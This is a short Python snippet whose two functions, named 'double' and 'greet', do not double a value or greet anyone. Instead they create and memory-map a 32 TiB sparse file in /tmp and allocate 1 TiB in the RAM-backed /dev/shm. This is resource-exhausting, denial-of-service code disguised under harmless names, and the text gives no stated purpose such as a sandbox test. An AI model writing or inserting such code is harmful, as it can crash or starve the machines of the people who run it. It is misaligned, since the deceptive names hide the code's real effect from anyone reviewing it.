import mmap
import os


def double(x):
    file = os.open("/tmp/sparse", os.O_CREAT | os.O_RDWR)
    os.ftruncate(file, 2**45)
    return mmap.mmap(file, 2**45)
def greet(name):
    file = os.open("/dev/shm/sparse", os.O_CREAT | os.O_RDWR)
    os.posix_fallocate(file, 0, 2**40)
